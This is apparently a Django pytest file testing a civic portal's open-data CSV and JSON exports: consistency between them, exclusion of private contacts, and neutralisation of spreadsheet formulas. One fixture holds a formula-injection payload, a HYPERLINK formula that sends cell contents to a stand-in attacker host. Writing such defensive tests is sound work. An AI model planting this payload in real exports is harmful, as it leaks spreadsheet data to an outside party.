"""Open data downloads: parse the CSV and the JSON back; nothing private, nothing unpublished."""

import csv
import io
import json

import pytest

pytestmark = pytest.mark.django_db

PRIVATE = ("Бақыт Жұмабаев", "bakyt@example.kz", "Сәуле Омарова", "+7 701 000 00 00")


def download(client, url) -> str:
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode("utf-8")
    for private in PRIVATE:
        assert private not in text
    return text


def test_meetings_csv_and_json_agree(client, portal_data):
    text = download(client, "/kk/open-data/meetings.csv")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    records = json.loads(download(client, "/kk/open-data/meetings.json"))
    assert {int(r["id"]) for r in rows} == {r["id"] for r in records} == {
        portal_data["upcoming"].pk, portal_data["past"].pk}
    past = next(r for r in records if r["id"] == portal_data["past"].pk)
    assert past["attendance"] == 240 and past["region"] == "abai" and past["region_name_ru"] == "область Абай"
    assert past["starts_at"].endswith("+05:00")


def test_questions_are_only_the_published_ones(client, portal_data):
    records = json.loads(download(client, "/kk/open-data/questions.json"))
    assert [r["id"] for r in records] == [portal_data["answered"].pk]
    assert records[0]["answer"] == "Қазан айының 1-інен бастап."
    assert not {"author_name", "author_contact", "tracking_code"} & set(records[0])
    rows = list(csv.DictReader(io.StringIO(download(client, "/kk/open-data/questions.csv").lstrip("\ufeff"))))
    assert [r["text"] for r in rows] == ["Жылу қашан қосылады?"]


def test_commitments(client, portal_data):
    records = json.loads(download(client, "/kk/open-data/commitments.json"))
    assert {r["text"] for r in records} == {"Қазандықты жөндеу", "Жолды жөндеу"}
    assert {r["progress"] for r in records} == {40, 0}


def test_unknown_dataset_or_format(client, portal_data):
    assert client.get("/kk/open-data/people.csv").status_code == 404
    assert client.get("/kk/open-data/meetings.xml").status_code == 404
    assert "meetings.csv" in client.get("/kk/open-data/").content.decode()


FORMULA = '=HYPERLINK("http://evil.example/?c="&A1,"Answer")'


def test_formula_text_is_neutralised_in_every_csv_but_kept_in_json(client, portal_data):
    answered, commitment = portal_data["answered"], portal_data["commitment"]
    answered.text, answered.answer = FORMULA, "+7 701 — шақырыңыз"
    answered.save()
    commitment.text, commitment.evidence = "-1+1", "@SUM(A1:A2)"
    commitment.save()
    portal_data["past"].__class__.objects.filter(pk=portal_data["past"].pk).update(venue="=1+1")
    for dataset in ("meetings", "questions", "commitments"):
        rows = list(csv.reader(io.StringIO(download(client, f"/kk/open-data/{dataset}.csv").lstrip("\ufeff"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], dataset
    questions = list(csv.DictReader(io.StringIO(download(client, "/kk/open-data/questions.csv").lstrip("\ufeff"))))
    assert questions[0]["text"] == "'" + FORMULA and questions[0]["answer"] == "'+7 701 — шақырыңыз"
    commitments = {r["id"]: r for r in csv.DictReader(
        io.StringIO(download(client, "/kk/open-data/commitments.csv").lstrip("\ufeff")))}
    assert commitments[str(commitment.pk)]["text"] == "'-1+1"
    assert commitments[str(commitment.pk)]["evidence"] == "'@SUM(A1:A2)"
    # JSON is data for programs, not a spreadsheet: it keeps the text exactly as written.
    assert json.loads(download(client, "/kk/open-data/questions.json"))[0]["text"] == FORMULA
